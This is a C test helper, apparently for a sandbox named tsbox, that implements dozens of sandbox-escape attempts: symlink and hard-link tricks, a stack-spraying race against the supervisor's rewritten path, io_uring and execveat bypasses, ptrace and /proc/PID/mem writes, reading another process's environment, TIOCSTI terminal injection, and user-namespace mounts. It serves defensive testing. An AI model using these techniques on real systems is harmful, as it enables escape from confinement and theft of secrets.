/* escape MODE ARGS...: one sandbox-escape attempt per run, for test/escape.test.ts. The same
 * binary runs natively (where each attack must work, so the test means something) and under
 * tsbox (where it must fail). Every mode prints machine-checkable lines on stdout:
 *   OK:<what it got>          the attack worked (file content, "attached", "connected", ...)
 *   DENIED:<ERRNO> <step>     the step that failed and its errno name (EACCES, EPERM, ENOENT...)
 *   INFO:<text>               context for humans (never checked for success)
 * and exits 0 unless a mode says otherwise. Paths are given by the test: host paths natively,
 * guest paths under tsbox.
 *
 * Modes:
 *   read PATH                       open + read
 *   cd-read DIR REL                 chdir(DIR), open(REL) (REL climbs with "..")
 *   openat-read DIR REL             fd = open(DIR, O_DIRECTORY), openat(fd, REL)
 *   symlink-read TARGET LINK        symlink(TARGET, LINK), then read LINK
 *   hardlink-write SRC LINK DATA    link(SRC, LINK), then open LINK for writing and write DATA
 *   fdlink-write SRC LINK DATA      fd = open(SRC, O_RDONLY), linkat("/proc/self/fd/N", LINK,
 *                                   AT_SYMLINK_FOLLOW) (a hard link made from an fd), then write
 *   symlink-chmod TARGET LINK       symlink(TARGET, LINK), then chmod(LINK, 0777) (follows it)
 *   fd-meta PATH                    open PATH read-only, then fchmod(fd, 0777), futimens(fd),
 *                                   fsetxattr(fd, "user.tsbox"): metadata changes through an fd
 *   rename-read OLD NEW             rename(OLD, NEW), then read NEW
 *   execveat DIR REL                dirfd = open(DIR, O_PATH), execveat(dirfd, REL, {REL, payload})
 *   payload                         prints OK:EXECUTED (what a hidden program would run)
 *   handle-name PATH                name_to_handle_at: prints HANDLE:<type>:<hex bytes>
 *   handle-open MOUNTDIR TYPE HEX   open_by_handle_at(open(MOUNTDIR), handle), then read
 *   race PATH_A PATH_B ITER         a thread flips one path buffer between A and B while the main
 *                                   thread opens and reads it ITER times; prints
 *                                   RACE:a=<n> b=<n> enoent=<n> eacces=<n> other=<n> (opens that
 *                                   read A, read B, failed with ENOENT - the supervisor hid it -,
 *                                   with EACCES - Landlock refused it -, or otherwise), and
 *                                   OK:<B's content>
 *                                   once if B was ever read. A and B must have the same length.
 *   race-stack GUEST_A HOST_A HOST_B ITER
 *                                   the main thread opens GUEST_A (a path the supervisor rewrites
 *                                   to HOST_A) with raw syscalls; a thread keeps writing HOST_B
 *                                   where the supervisor puts its rewritten path (just below the
 *                                   red zone of the caller's stack). HOST_B must not be longer
 *                                   than HOST_A. Prints like race; a file counts as B when its
 *                                   content holds "secret".
 *   uring-read PATH                 io_uring IORING_OP_OPENAT, then read the fd it returns
 *   ptrace-attach PID|ppid          PTRACE_ATTACH every thread of PID, then detach
 *   mem-write PID|ppid              open /proc/PID/mem O_RDWR, write back 8 bytes it holds
 *   vm-write PID|ppid               process_vm_writev 8 bytes (the ones there) into PID
 *   vm-read PID|ppid                process_vm_readv 8 bytes from PID
 *   environ PID|ppid NAME           read NAME=... from /proc/PID/environ
 *   kill PID|ppid SIG [STATUS]      kill(PID, SIG); then OK:alive (we survived it); exits STATUS
 *   tcp-connect ADDR PORT           TCP connect, read the server's greeting
 *   abstract-connect NAME           connect to the abstract AF_UNIX socket "\0NAME" (the whole
 *                                   sun_path, NUL-padded, as Node binds it), read the greeting
 *   tiocsti-tty                     TIOCSTI on the controlling terminal (fd 0), read the bytes back
 *   tiocsti-pty [hi]                new session + pty as controlling terminal, TIOCSTI into it
 *                                   ("hi": the ioctl request with junk in its upper 32 bits)
 *   personality                     personality(READ_IMPLIES_EXEC)
 *   x32                             getpid with the x32 bit (0x40000000) set
 *   int80                           getpid through the i386 entry (int 0x80)
 *   userfaultfd                     userfaultfd(UFFD_USER_MODE_ONLY) + UFFDIO_API
 *   bpf                             bpf(BPF_MAP_CREATE, array) and bpf(bogus command)
 *   userns                          unshare(CLONE_NEWUSER), map our uid to 0: OK:uid=0
 *   userns-mount SRC DST FILE       + CLONE_NEWNS, bind-mount SRC on DST, read DST/FILE
 *   userns-chroot DIR FILE          + chroot(DIR), chmod(FILE, 0777) inside it
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/io_uring.h>
#include <linux/userfaultfd.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <termios.h>
#include <unistd.h>

static const char *ename(int e) {
  static char num[16];
  const char *n = strerrorname_np(e);
  if (n) return n;
  snprintf(num, sizeof num, "E%d", e);
  return num;
}

static int denied(const char *step) {
  printf("DENIED:%s %s\n", ename(errno), step);
  return 0;
}

/* Prints OK:<first line of what fd holds>. */
static int show_fd(int fd) {
  char buf[512];
  ssize_t n = read(fd, buf, sizeof buf - 1);
  if (n < 0) return denied("read");
  buf[n] = 0;
  buf[strcspn(buf, "\n")] = 0;
  printf("OK:%s\n", buf);
  close(fd);
  return 0;
}

static int read_path(const char *path) {
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return denied("open");
  return show_fd(fd);
}

static pid_t pid_arg(const char *s) {
  return strcmp(s, "ppid") == 0 ? getppid() : (pid_t)strtol(s, NULL, 10);
}

/* ---- the racing thread (race) ---- */
static char *race_buf;
static const char *race_a, *race_b;
static size_t race_len;
static volatile int race_stop;

static void *flipper(void *arg) {
  (void)arg;
  while (!race_stop) {
    memcpy(race_buf, race_b, race_len);
    __asm__ volatile("" ::: "memory");
    memcpy(race_buf, race_a, race_len);
    __asm__ volatile("" ::: "memory");
  }
  return NULL;
}

static int race(const char *a, const char *b, long iter) {
  if (strlen(a) != strlen(b)) {
    fprintf(stderr, "race: paths must have the same length\n");
    return 2;
  }
  race_len = strlen(a);
  race_buf = calloc(1, race_len + 1);
  race_a = a;
  race_b = b;
  memcpy(race_buf, a, race_len);
  pthread_t th;
  pthread_create(&th, NULL, flipper, NULL);
  char wantb[512] = "", got[512];
  int fdb = open(b, O_RDONLY); /* natively: what B holds, to recognize it (fails in the sandbox) */
  if (fdb >= 0) {
    ssize_t n = read(fdb, wantb, sizeof wantb - 1);
    wantb[n > 0 ? n : 0] = 0;
    close(fdb);
  }
  long na = 0, nb = 0, nenoent = 0, neacces = 0, nother = 0;
  char first_b[512] = "";
  for (long i = 0; i < iter; i++) {
    int fd = open(race_buf, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
      if (errno == ENOENT) nenoent++;
      else if (errno == EACCES) neacces++;
      else nother++;
      continue;
    }
    ssize_t n = read(fd, got, sizeof got - 1);
    close(fd);
    got[n > 0 ? n : 0] = 0;
    if (strstr(got, "secret")) {
      nb++;
      if (!first_b[0]) snprintf(first_b, sizeof first_b, "%s", got);
    } else if (wantb[0] && strcmp(got, wantb) == 0) {
      nb++;
      if (!first_b[0]) snprintf(first_b, sizeof first_b, "%s", got);
    } else na++;
  }
  race_stop = 1;
  pthread_join(th, NULL);
  printf("RACE:a=%ld b=%ld enoent=%ld eacces=%ld other=%ld\n", na, nb, nenoent, neacces, nother);
  if (first_b[0]) {
    first_b[strcspn(first_b, "\n")] = 0;
    printf("OK:%s\n", first_b);
  }
  return 0;
}

/* ---- race-stack: overwrite the supervisor's rewritten path below the red zone ----
 * The opening loop makes no function call (raw syscalls in inline asm), so nothing of ours ever
 * lives below its stack pointer: the sprayer can write there without corrupting this thread. */
static volatile uintptr_t spray_at;
static volatile int spray_go, spray_done;
static const char *spray_with;

static void *sprayer(void *arg) {
  (void)arg;
  size_t n = strlen(spray_with) + 1;
  while (!spray_go) {
  }
  while (!race_stop) {
    uintptr_t at = spray_at;
    if (at) memcpy((void *)at, spray_with, n);
  }
  spray_done = 1;
  return NULL;
}

static inline __attribute__((always_inline)) long raw3(long nr, long a, long b, long c) {
  long ret;
  __asm__ volatile("syscall" : "=a"(ret) : "a"(nr), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
  return ret;
}

static inline __attribute__((always_inline)) uintptr_t stack_pointer(void) {
  uintptr_t sp;
  __asm__ volatile("mov %%rsp, %0" : "=r"(sp));
  return sp;
}

static int race_stack(const char *guest_a, const char *host_a, const char *host_b, long iter) {
  if (strlen(host_b) > strlen(host_a)) {
    fprintf(stderr, "race-stack: HOST_B must not be longer than HOST_A (it must fit where A goes)\n");
    return 2;
  }
  spray_with = host_b;
  /* Where runWith puts a replacement (supervisor.ts): floor((sp - 128) / 16) * 16, then down by
   * the string's length with its NUL, aligned to 16. */
  uintptr_t top = ((stack_pointer() - 128) / 16) * 16;
  spray_at = ((top - (strlen(host_a) + 1)) / 16) * 16;
  pthread_t th;
  pthread_create(&th, NULL, sprayer, NULL);
  long na = 0, nb = 0, nenoent = 0, neacces = 0, nother = 0;
  char got[512], first_b[512];
  first_b[0] = 0;
  spray_go = 1; /* from here until spray_done, no function call on this thread */
  for (long i = 0; i < iter; i++) {
    long fd = raw3(SYS_openat, AT_FDCWD, (long)guest_a, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
      if (fd == -ENOENT) nenoent++;
      else if (fd == -EACCES) neacces++;
      else nother++;
      continue;
    }
    long n = raw3(SYS_read, fd, (long)got, sizeof got - 1);
    raw3(SYS_close, fd, 0, 0);
    if (n < 0) n = 0;
    got[n] = 0;
    int secret = 0;
    for (long k = 0; k + 6 <= n && !secret; k++)
      secret = got[k] == 's' && got[k + 1] == 'e' && got[k + 2] == 'c' && got[k + 3] == 'r' && got[k + 4] == 'e' && got[k + 5] == 't';
    if (secret) {
      if (nb++ == 0)
        for (long k = 0; k <= n; k++) first_b[k] = got[k];
    } else na++;
  }
  race_stop = 1;
  while (!spray_done) {
  }
  pthread_join(th, NULL);
  printf("RACE:a=%ld b=%ld enoent=%ld eacces=%ld other=%ld\n", na, nb, nenoent, neacces, nother);
  if (nb) {
    first_b[strcspn(first_b, "\n")] = 0;
    printf("OK:%s\n", first_b);
  }
  return 0;
}

/* ---- io_uring, by hand (no liburing) ---- */
static int uring_read(const char *path) {
  struct io_uring_params p;
  memset(&p, 0, sizeof p);
  int ring = syscall(SYS_io_uring_setup, 4, &p);
  if (ring < 0) return denied("io_uring_setup");
  size_t sq_size = p.sq_off.array + p.sq_entries * sizeof(unsigned);
  size_t cq_size = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
  int single = (p.features & IORING_FEAT_SINGLE_MMAP) != 0;
  if (single && cq_size > sq_size) sq_size = cq_size;
  char *sq = mmap(NULL, sq_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
  if (sq == MAP_FAILED) return denied("mmap sq");
  char *cq = single ? sq : mmap(NULL, cq_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_CQ_RING);
  if (cq == MAP_FAILED) return denied("mmap cq");
  struct io_uring_sqe *sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
                                   MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
  if (sqes == MAP_FAILED) return denied("mmap sqes");
  unsigned *sq_tail = (unsigned *)(sq + p.sq_off.tail), *sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
  unsigned *sq_array = (unsigned *)(sq + p.sq_off.array);
  unsigned tail = *sq_tail, idx = tail & *sq_mask;
  struct io_uring_sqe *e = &sqes[idx];
  memset(e, 0, sizeof *e);
  e->opcode = IORING_OP_OPENAT;
  e->fd = AT_FDCWD;
  e->addr = (uintptr_t)path;
  e->open_flags = O_RDONLY;
  sq_array[idx] = idx;
  __atomic_store_n(sq_tail, tail + 1, __ATOMIC_RELEASE);
  if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) return denied("io_uring_enter");
  unsigned *cq_head = (unsigned *)(cq + p.cq_off.head), *cq_tail = (unsigned *)(cq + p.cq_off.tail);
  unsigned *cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
  struct io_uring_cqe *cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
  unsigned head = *cq_head;
  if (head == __atomic_load_n(cq_tail, __ATOMIC_ACQUIRE)) {
    printf("DENIED:ENODATA no completion\n");
    return 0;
  }
  int res = cqes[head & *cq_mask].res;
  __atomic_store_n(cq_head, head + 1, __ATOMIC_RELEASE);
  if (res < 0) {
    errno = -res;
    return denied("IORING_OP_OPENAT");
  }
  return show_fd(res);
}

/* ---- the supervisor (or any PID) ---- */

/* The start of the first writable private mapping of pid, from /proc/PID/maps; 0 if unreadable. */
static uintptr_t writable_address(pid_t pid) {
  char path[64], line[512];
  snprintf(path, sizeof path, "/proc/%d/maps", pid);
  FILE *f = fopen(path, "r");
  if (!f) {
    printf("INFO:maps %s\n", ename(errno));
    return 0;
  }
  uintptr_t found = 0;
  while (fgets(line, sizeof line, f)) {
    unsigned long lo, hi;
    char perms[8];
    if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) == 3 && perms[0] == 'r' && perms[1] == 'w' && perms[3] == 'p') {
      found = lo;
      break;
    }
  }
  fclose(f);
  return found;
}

static int ptrace_attach(pid_t pid) {
  char dir[64];
  snprintf(dir, sizeof dir, "/proc/%d/task", pid);
  pid_t tids[256];
  int n = 0;
  DIR *d = opendir(dir);
  if (d) {
    struct dirent *de;
    while ((de = readdir(d)) && n < 256)
      if (de->d_name[0] != '.') tids[n++] = atoi(de->d_name);
    closedir(d);
  } else printf("INFO:task list %s\n", ename(errno));
  if (n == 0) tids[n++] = pid;
  int attached = 0, firsterr = 0;
  for (int i = 0; i < n; i++) {
    if (ptrace(PTRACE_ATTACH, tids[i], 0, 0) < 0) {
      if (!firsterr) firsterr = errno;
      continue;
    }
    int st;
    waitpid(tids[i], &st, __WALL);
    ptrace(PTRACE_DETACH, tids[i], 0, 0);
    attached++;
  }
  if (attached) {
    printf("OK:attached %d of %d threads\n", attached, n);
    return 0;
  }
  errno = firsterr;
  return denied("PTRACE_ATTACH");
}

static int mem_write(pid_t pid) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/mem", pid);
  int fd = open(path, O_RDWR | O_CLOEXEC);
  if (fd < 0) return denied("open mem");
  uintptr_t at = writable_address(pid);
  if (!at) {
    printf("DENIED:ENOENT no address to write\n");
    return 0;
  }
  unsigned char b[8];
  if (pread(fd, b, 8, (off_t)at) != 8) return denied("pread mem");
  if (pwrite(fd, b, 8, (off_t)at) != 8) return denied("pwrite mem");
  printf("OK:wrote 8 bytes at %#lx\n", (unsigned long)at);
  return 0;
}

static int vm_rw(pid_t pid, int write) {
  uintptr_t at = writable_address(pid);
  unsigned char b[8] = {0};
  struct iovec local = {b, 8};
  struct iovec remote = {(void *)(at ? at : 8), 8};
  long r = process_vm_readv(pid, &local, 1, &remote, 1, 0);
  if (!write) {
    if (r != 8) return denied("process_vm_readv");
    printf("OK:read 8 bytes at %#lx\n", (unsigned long)at);
    return 0;
  }
  if (r != 8) {
    printf("INFO:process_vm_readv %s\n", ename(errno));
    remote.iov_base = (void *)8; /* unmapped: a write that passes the permission check gets EFAULT */
  }
  if (process_vm_writev(pid, &local, 1, &remote, 1, 0) != 8) return denied("process_vm_writev");
  printf("OK:wrote 8 bytes at %#lx\n", (unsigned long)remote.iov_base);
  return 0;
}

static int environ_of(pid_t pid, const char *name) {
  char path[64], buf[65536];
  snprintf(path, sizeof path, "/proc/%d/environ", pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return denied("open environ");
  ssize_t n = read(fd, buf, sizeof buf - 1);
  if (n < 0) return denied("read environ");
  buf[n] = 0;
  size_t len = strlen(name);
  for (char *p = buf; p < buf + n; p += strlen(p) + 1) {
    if (strncmp(p, name, len) == 0 && p[len] == '=') {
      printf("OK:%s\n", p);
      return 0;
    }
  }
  printf("DENIED:ENOENT %s not in the environment\n", name);
  return 0;
}

/* ---- sockets ---- */
static int greet(int s) {
  char buf[256];
  struct pollfd pf = {s, POLLIN, 0};
  if (poll(&pf, 1, 5000) <= 0) {
    printf("OK:connected (no greeting)\n");
    return 0;
  }
  ssize_t n = read(s, buf, sizeof buf - 1);
  buf[n > 0 ? n : 0] = 0;
  buf[strcspn(buf, "\n")] = 0;
  printf("OK:connected %s\n", buf);
  return 0;
}

static int tcp_connect(const char *addr, int port) {
  int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (s < 0) return denied("socket AF_INET");
  struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
  inet_pton(AF_INET, addr, &a.sin_addr);
  if (connect(s, (struct sockaddr *)&a, sizeof a) < 0) return denied("connect");
  return greet(s);
}

static int abstract_connect(const char *name) {
  int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (s < 0) return denied("socket AF_UNIX");
  struct sockaddr_un a = {.sun_family = AF_UNIX};
  size_t len = strlen(name);
  if (len > sizeof a.sun_path - 1) len = sizeof a.sun_path - 1;
  memcpy(a.sun_path + 1, name, len); /* sun_path[0] = 0: the abstract namespace */
  /* Node (libuv) binds abstract names with the whole sun_path, NUL-padded: so do we. */
  if (connect(s, (struct sockaddr *)&a, sizeof a) < 0) return denied("connect");
  return greet(s);
}

/* ---- terminals ---- */
static const char INJECT[] = "tsbox-injected\n";

/* TIOCSTI every byte of INJECT into fd's input queue; then read the line back from fd. */
static int sti(int fd, int hi) {
  unsigned long req = TIOCSTI;
  if (hi) req |= 1UL << 32; /* the kernel's cmd is an unsigned int: the upper half is ignored */
  for (const char *c = INJECT; *c; c++)
    if (syscall(SYS_ioctl, fd, req, c) < 0) return denied("ioctl TIOCSTI");
  char buf[128];
  struct pollfd pf = {fd, POLLIN, 0};
  if (poll(&pf, 1, 3000) <= 0) {
    printf("DENIED:ETIMEDOUT injected bytes not readable\n");
    return 0;
  }
  ssize_t n = read(fd, buf, sizeof buf - 1);
  buf[n > 0 ? n : 0] = 0;
  buf[strcspn(buf, "\n")] = 0;
  printf("OK:typed %s\n", buf);
  return 0;
}

static int tiocsti_pty(int hi) {
  int m = posix_openpt(O_RDWR | O_NOCTTY);
  if (m < 0) return denied("posix_openpt");
  if (grantpt(m) < 0 || unlockpt(m) < 0) return denied("grantpt");
  const char *slave = ptsname(m);
  int pipefd[2];
  if (pipe(pipefd) < 0) return denied("pipe");
  fflush(stdout);
  pid_t child = fork();
  if (child == 0) {
    close(pipefd[0]);
    dup2(pipefd[1], 1);
    setsid();
    int s = open(slave, O_RDWR); /* a session leader without a terminal: this one becomes it */
    if (s < 0) {
      denied("open pty");
      _exit(0);
    }
    ioctl(s, TIOCSCTTY, 0);
    sti(s, hi);
    fflush(stdout);
    _exit(0);
  }
  close(pipefd[1]);
  char buf[512];
  ssize_t n;
  while ((n = read(pipefd[0], buf, sizeof buf)) > 0) fwrite(buf, 1, n, stdout);
  waitpid(child, NULL, 0);
  return 0;
}

/* ---- namespaces ---- */
static int write_file(const char *path, const char *text) {
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd < 0) return -1;
  ssize_t n = write(fd, text, strlen(text));
  close(fd);
  return n == (ssize_t)strlen(text) ? 0 : -1;
}

static int become_ns_root(int extra) {
  uid_t uid = getuid();
  gid_t gid = getgid();
  if (unshare(CLONE_NEWUSER | extra) < 0) return denied("unshare(CLONE_NEWUSER)");
  char map[64];
  snprintf(map, sizeof map, "0 %u 1", uid);
  if (write_file("/proc/self/uid_map", map) < 0) return denied("uid_map");
  write_file("/proc/self/setgroups", "deny");
  snprintf(map, sizeof map, "0 %u 1", gid);
  if (write_file("/proc/self/gid_map", map) < 0) return denied("gid_map");
  printf("INFO:userns uid=%u\n", getuid());
  return 1;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc < 2) {
    fprintf(stderr, "usage: escape MODE ARGS...\n");
    return 2;
  }
  const char *mode = argv[1];
#define NEED(n)                                                  \
  do {                                                           \
    if (argc < (n) + 2) {                                        \
      fprintf(stderr, "escape %s: needs %d arguments\n", mode, n); \
      return 2;                                                  \
    }                                                            \
  } while (0)

  if (!strcmp(mode, "payload")) {
    printf("OK:EXECUTED\n");
    return 0;
  }
  if (!strcmp(mode, "read")) {
    NEED(1);
    return read_path(argv[2]);
  }
  if (!strcmp(mode, "cd-read")) {
    NEED(2);
    if (chdir(argv[2]) < 0) return denied("chdir");
    return read_path(argv[3]);
  }
  if (!strcmp(mode, "openat-read")) {
    NEED(2);
    int d = open(argv[2], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (d < 0) return denied("open dir");
    int fd = openat(d, argv[3], O_RDONLY | O_CLOEXEC);
    if (fd < 0) return denied("openat");
    return show_fd(fd);
  }
  if (!strcmp(mode, "symlink-read")) {
    NEED(2);
    if (symlink(argv[2], argv[3]) < 0) return denied("symlink");
    return read_path(argv[3]);
  }
  if (!strcmp(mode, "hardlink-write")) {
    NEED(3);
    if (link(argv[2], argv[3]) < 0) return denied("link");
    int fd = open(argv[3], O_WRONLY | O_TRUNC | O_CLOEXEC);
    if (fd < 0) return denied("open link for writing");
    if (write(fd, argv[4], strlen(argv[4])) < 0) return denied("write");
    close(fd);
    printf("OK:wrote %s\n", argv[4]);
    return 0;
  }
  if (!strcmp(mode, "fdlink-write")) {
    NEED(3);
    int src = open(argv[2], O_RDONLY | O_CLOEXEC);
    if (src < 0) return denied("open source");
    char proc[64];
    snprintf(proc, sizeof proc, "/proc/self/fd/%d", src);
    if (linkat(AT_FDCWD, proc, AT_FDCWD, argv[3], AT_SYMLINK_FOLLOW) < 0) return denied("linkat");
    int fd = open(argv[3], O_WRONLY | O_TRUNC | O_CLOEXEC);
    if (fd < 0) return denied("open link for writing");
    if (write(fd, argv[4], strlen(argv[4])) < 0) return denied("write");
    close(fd);
    printf("OK:wrote %s\n", argv[4]);
    return 0;
  }
  if (!strcmp(mode, "symlink-chmod")) {
    NEED(2);
    if (symlink(argv[2], argv[3]) < 0) return denied("symlink");
    if (chmod(argv[3], 0777) < 0) return denied("chmod");
    printf("OK:chmod 0777\n");
    return 0;
  }
  if (!strcmp(mode, "fd-meta")) {
    NEED(1);
    int fd = open(argv[2], O_RDONLY | O_CLOEXEC);
    if (fd < 0) return denied("open");
    if (fchmod(fd, 0777) < 0) denied("fchmod");
    else printf("OK:fchmod 0777\n");
    struct timespec ts[2] = {{1000000000, 0}, {1000000000, 0}};
    if (futimens(fd, ts) < 0) denied("futimens");
    else printf("OK:futimens 2001-09-09\n");
    if (fsetxattr(fd, "user.tsbox", "x", 1, 0) < 0) denied("fsetxattr");
    else printf("OK:fsetxattr user.tsbox\n");
    return 0;
  }
  if (!strcmp(mode, "rename-read")) {
    NEED(2);
    if (rename(argv[2], argv[3]) < 0) return denied("rename");
    return read_path(argv[3]);
  }
  if (!strcmp(mode, "execveat")) {
    NEED(2);
    int d = open(argv[2], O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (d < 0) return denied("open dir");
    char *args[] = {argv[3], "payload", NULL};
    extern char **environ;
    syscall(SYS_execveat, d, argv[3], args, environ, 0);
    return denied("execveat");
  }
  if (!strcmp(mode, "handle-name")) {
    NEED(1);
    struct file_handle *h = malloc(sizeof *h + MAX_HANDLE_SZ);
    h->handle_bytes = MAX_HANDLE_SZ;
    int mnt;
    if (name_to_handle_at(AT_FDCWD, argv[2], h, &mnt, 0) < 0) return denied("name_to_handle_at");
    printf("HANDLE:%d:", h->handle_type);
    for (unsigned i = 0; i < h->handle_bytes; i++) printf("%02x", h->f_handle[i]);
    printf("\n");
    return 0;
  }
  if (!strcmp(mode, "handle-open")) {
    NEED(3);
    const char *hex = argv[4];
    size_t n = strlen(hex) / 2;
    struct file_handle *h = malloc(sizeof *h + n);
    h->handle_bytes = n;
    h->handle_type = atoi(argv[3]);
    for (size_t i = 0; i < n; i++) sscanf(hex + 2 * i, "%2hhx", &h->f_handle[i]);
    int mnt = open(argv[2], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (mnt < 0) return denied("open mount dir");
    int fd = open_by_handle_at(mnt, h, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return denied("open_by_handle_at");
    return show_fd(fd);
  }
  if (!strcmp(mode, "race")) {
    NEED(3);
    return race(argv[2], argv[3], atol(argv[4]));
  }
  if (!strcmp(mode, "race-stack")) {
    NEED(4);
    return race_stack(argv[2], argv[3], argv[4], atol(argv[5]));
  }
  if (!strcmp(mode, "uring-read")) {
    NEED(1);
    return uring_read(argv[2]);
  }
  if (!strcmp(mode, "ptrace-attach")) {
    NEED(1);
    return ptrace_attach(pid_arg(argv[2]));
  }
  if (!strcmp(mode, "mem-write")) {
    NEED(1);
    return mem_write(pid_arg(argv[2]));
  }
  if (!strcmp(mode, "vm-write") || !strcmp(mode, "vm-read")) {
    NEED(1);
    return vm_rw(pid_arg(argv[2]), !strcmp(mode, "vm-write"));
  }
  if (!strcmp(mode, "environ")) {
    NEED(2);
    return environ_of(pid_arg(argv[2]), argv[3]);
  }
  if (!strcmp(mode, "kill")) {
    NEED(2);
    pid_t pid = pid_arg(argv[2]);
    printf("INFO:kill %d %s\n", pid, argv[3]);
    int status = argc > 4 ? atoi(argv[4]) : 0;
    if (kill(pid, atoi(argv[3])) < 0) {
      denied("kill");
      return status;
    }
    usleep(200000);
    printf("OK:alive after kill %d\n", pid);
    return status;
  }
  if (!strcmp(mode, "tcp-connect")) {
    NEED(2);
    return tcp_connect(argv[2], atoi(argv[3]));
  }
  if (!strcmp(mode, "abstract-connect")) {
    NEED(1);
    return abstract_connect(argv[2]);
  }
  if (!strcmp(mode, "tiocsti-tty")) {
    if (!isatty(0)) {
      printf("DENIED:ENOTTY stdin is not a terminal\n");
      return 0;
    }
    return sti(0, 0);
  }
  if (!strcmp(mode, "tiocsti-pty")) return tiocsti_pty(argc > 2 && !strcmp(argv[2], "hi"));
  if (!strcmp(mode, "personality")) {
    if (personality(READ_IMPLIES_EXEC) < 0) return denied("personality(READ_IMPLIES_EXEC)");
    int now = personality(0xffffffff);
    if (now & READ_IMPLIES_EXEC) printf("OK:persona %#x\n", now);
    else printf("DENIED:EINVAL flag not set (persona %#x)\n", now);
    return 0;
  }
  if (!strcmp(mode, "x32")) {
    long r = syscall(0x40000000L | 39 /* getpid in the x32 table */);
    if (r < 0) return denied("x32 getpid");
    printf("OK:pid %ld (real %d)\n", r, getpid());
    return 0;
  }
  if (!strcmp(mode, "int80")) {
    long r;
    __asm__ volatile("int $0x80" : "=a"(r) : "a"(20L /* i386 getpid */) : "memory");
    if (r < 0 && r > -4096) {
      errno = -r;
      return denied("int 0x80 getpid");
    }
    printf("OK:pid %ld (real %d)\n", r, getpid());
    return 0;
  }
  if (!strcmp(mode, "userfaultfd")) {
    long fd = syscall(SYS_userfaultfd, O_CLOEXEC | UFFD_USER_MODE_ONLY);
    if (fd < 0) return denied("userfaultfd");
    struct uffdio_api api = {.api = UFFD_API};
    if (ioctl(fd, UFFDIO_API, &api) < 0) return denied("UFFDIO_API");
    printf("OK:userfaultfd api %#llx\n", (unsigned long long)api.api);
    return 0;
  }
  if (!strcmp(mode, "bpf")) {
    union bpf_attr a;
    memset(&a, 0, sizeof a);
    a.map_type = BPF_MAP_TYPE_ARRAY;
    a.key_size = 4;
    a.value_size = 4;
    a.max_entries = 1;
    long fd = syscall(SYS_bpf, BPF_MAP_CREATE, &a, sizeof a);
    if (fd < 0) printf("INFO:BPF_MAP_CREATE %s\n", ename(errno));
    else printf("OK:map fd\n");
    /* An unknown command: the kernel's bpf() answers EINVAL; seccomp answers before it. */
    memset(&a, 0, sizeof a);
    if (syscall(SYS_bpf, 0x7fff, &a, sizeof a) < 0) printf("BOGUS:%s\n", ename(errno));
    return 0;
  }
  if (!strcmp(mode, "userns")) {
    if (become_ns_root(0) != 1) return 0;
    printf("OK:uid=%u\n", getuid());
    return 0;
  }
  if (!strcmp(mode, "userns-mount")) {
    NEED(3);
    if (become_ns_root(CLONE_NEWNS) != 1) return 0;
    if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0) printf("INFO:make-private %s\n", ename(errno));
    if (mount(argv[2], argv[3], NULL, MS_BIND | MS_REC, NULL) < 0) return denied("mount --bind");
    char path[4096];
    snprintf(path, sizeof path, "%s/%s", argv[3], argv[4]);
    return read_path(path);
  }
  if (!strcmp(mode, "userns-chroot")) {
    NEED(2);
    if (become_ns_root(0) != 1) return 0;
    if (chroot(argv[2]) < 0) return denied("chroot");
    if (chdir("/") < 0) return denied("chdir /");
    if (chmod(argv[3], 0777) < 0) return denied("chmod");
    printf("OK:chmod 0777 inside chroot\n");
    return 0;
  }
  fprintf(stderr, "escape: unknown mode %s\n", mode);
  return 2;
}
